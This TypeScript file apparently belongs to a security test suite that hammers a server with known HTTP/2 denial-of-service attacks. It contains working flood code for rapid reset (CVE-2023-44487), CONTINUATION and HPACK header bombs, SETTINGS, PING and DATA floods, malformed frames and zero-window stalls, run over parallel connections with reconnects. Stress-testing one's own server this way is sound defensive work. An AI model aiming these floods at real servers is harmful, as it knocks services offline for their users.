/** What HTTP/2 lets a stranger ask of a server for next to nothing: each of these has taken servers down. */
import { systemClock } from "../../../../src/lib/clock.ts";
import { FLAG, FRAME, frame, Http2Peer, headerBlock, preface } from "../http2.ts";
import { adsHeaders } from "../siege.ts";
import type { Attack, Door, Result } from "../types.ts";

/** Connections at once. */
const WIDTH = 8;
/** Of one flood at most. */
const LIMIT_MS = 15_000;

/** `times` times `make`, over a few connections, each of which is opened again where the server ends it. */
async function flood(
  door: Door,
  times: number,
  make: (index: number, peer: Http2Peer) => Uint8Array,
  hello: Buffer = preface(),
  each = 1,
): Promise<Result> {
  const until = systemClock.monotonic() + LIMIT_MS;
  let sent = 0;
  let cut = 0;
  let gotIn = 0;
  const peers = new Set<Http2Peer>();
  const attacker = async () => {
    while (sent < times && systemClock.monotonic() < until) {
      const socket = await door.open().catch(() => undefined);
      if (!socket) return;
      const peer = new Http2Peer(socket, hello);
      peer.polite = false;
      peers.add(peer);
      for (let index = 0; sent < times && systemClock.monotonic() < until; index += 1) {
        sent += each;
        if (!(await peer.write(make(index, peer)))) break;
      }
      // What was written is not yet sent.
      while (!peer.closed && peer.socket.writableLength > 0 && systemClock.monotonic() < until) await Bun.sleep(5);
      if (peer.closed) cut += 1;
      gotIn += [...peer.data.values()].filter(({ length }) => length > 0).length;
    }
  };
  await Promise.all(Array.from({ length: WIDTH }, attacker));
  for (const { socket } of peers) socket.destroy();
  return { attempts: sent, gotIn, note: cut > 0 ? `${cut} connections cut` : "" };
}

const batch = (count: number, make: (index: number) => Buffer) => Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));

const reset = (stream: number) => frame(FRAME.rstStream, 0, stream, Buffer.from([0, 0, 0, 8]));
const CALL = headerBlock(adsHeaders("nobody"));
const BIG = "x".repeat(4_000);

export const HTTP2_FLOODS: readonly Attack[] = [
  {
    name: "HTTP/2 rapid reset (CVE-2023-44487)",
    by: "stranger",
    on: "http2",
    times: [200_000, 20_000],
    run: (_, door, times) =>
      flood(
        door,
        times,
        (index) =>
          batch(50, (at) => {
            const stream = 1 + 2 * (index * 50 + at);
            return Buffer.concat([frame(FRAME.headers, FLAG.endHeaders, stream, CALL), reset(stream)]);
          }),
        preface(),
        50,
      ),
  },
  {
    name: "HTTP/2 CONTINUATION without an end",
    by: "stranger",
    on: "http2",
    times: [50_000, 5_000],
    run: (_, door, times) =>
      flood(door, times, (index) =>
        index === 0
          ? frame(FRAME.headers, 0, 1, CALL)
          : frame(FRAME.continuation, 0, 1, headerBlock(Array.from({ length: 4 }, (_unused, at) => [`x-${index}-${at}`, BIG] as const))),
      ),
  },
  {
    name: "HTTP/2 empty CONTINUATION frames",
    by: "stranger",
    on: "http2",
    times: [500_000, 50_000],
    run: (_, door, times) =>
      flood(
        door,
        times,
        (index) => (index === 0 ? frame(FRAME.headers, 0, 1, CALL) : batch(100, () => frame(FRAME.continuation, 0, 1))),
        preface(),
        100,
      ),
  },
  {
    name: "HPACK: one large header, 4,000 times by its index",
    by: "stranger",
    on: "http2",
    times: [2_000, 100],
    run: (_, door, times) =>
      flood(door, times, (index) => {
        const known = headerBlock([["x-bomb", "y".repeat(3_900)]], true);
        const block = Buffer.concat([CALL, index === 0 ? known : Buffer.alloc(0), Buffer.alloc(4_000, 0xbe)]);
        return frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 1 + 2 * index, block);
      }),
  },
  {
    name: "HTTP/2 SETTINGS flood",
    by: "stranger",
    on: "http2",
    times: [500_000, 50_000],
    run: (_, door, times) => flood(door, times, () => batch(100, () => frame(FRAME.settings, 0, 0)), preface(), 100),
  },
  {
    name: "HTTP/2 PING flood, answers not read",
    by: "stranger",
    on: "http2",
    times: [500_000, 50_000],
    run: (_, door, times) =>
      flood(
        door,
        times,
        (_index, peer) => {
          peer.socket.pause();
          return batch(100, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8)));
        },
        preface(),
        100,
      ),
  },
  {
    name: "HTTP/2 empty DATA frames",
    by: "stranger",
    on: "http2",
    times: [500_000, 50_000],
    run: (_, door, times) =>
      flood(
        door,
        times,
        (index) => (index === 0 ? frame(FRAME.headers, FLAG.endHeaders, 1, CALL) : batch(100, () => frame(FRAME.data, 0, 1))),
        preface(),
        100,
      ),
  },
  {
    name: "HTTP/2 PRIORITY and unknown frames",
    by: "stranger",
    on: "http2",
    times: [500_000, 50_000],
    run: (_, door, times) =>
      flood(
        door,
        times,
        (index) =>
          batch(100, (at) =>
            at % 2
              ? frame(0xfa, 0, 0, Buffer.alloc(16))
              : frame(2, 0, 1 + 2 * ((index * 100 + at) % 100_000), Buffer.from([0, 0, 0, 0, 16])),
          ),
        preface(),
        100,
      ),
  },
  {
    name: "HTTP/2 broken frames",
    by: "stranger",
    on: "http2",
    times: [2_000, 200],
    run: (_, door, times) =>
      flood(door, times, (index) => {
        const broken = [
          frame(FRAME.settings, 0, 0, Buffer.alloc(5)),
          frame(FRAME.windowUpdate, 0, 0, Buffer.alloc(4)),
          frame(FRAME.data, 0, 0, Buffer.alloc(10)),
          frame(FRAME.continuation, 0, 7, Buffer.alloc(10)),
          frame(FRAME.headers, FLAG.endHeaders, 2, CALL),
          frame(FRAME.headers, FLAG.endHeaders, 1, Buffer.alloc(64, 0xff)),
          frame(FRAME.rstStream, 0, 99, Buffer.alloc(3)),
          Buffer.concat([Buffer.from([0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1]), Buffer.alloc(100)]),
          frame(5, FLAG.endHeaders, 1, Buffer.alloc(8)),
        ];
        // Each on a connection of its own: the first that is believed hides the others.
        return broken[(index + times) % broken.length] ?? Buffer.alloc(0);
      }),
  },
  {
    name: "HTTP/2 calls whose answers are not read (window 0)",
    by: "stranger",
    on: "http2",
    times: [100_000, 10_000],
    run: (_, door, times) =>
      flood(
        door,
        times,
        (index, peer) => {
          peer.socket.pause();
          return batch(50, (at) => frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 1 + 2 * (index * 50 + at), CALL));
        },
        preface([[4, 0]]),
        50,
      ),
  },
];
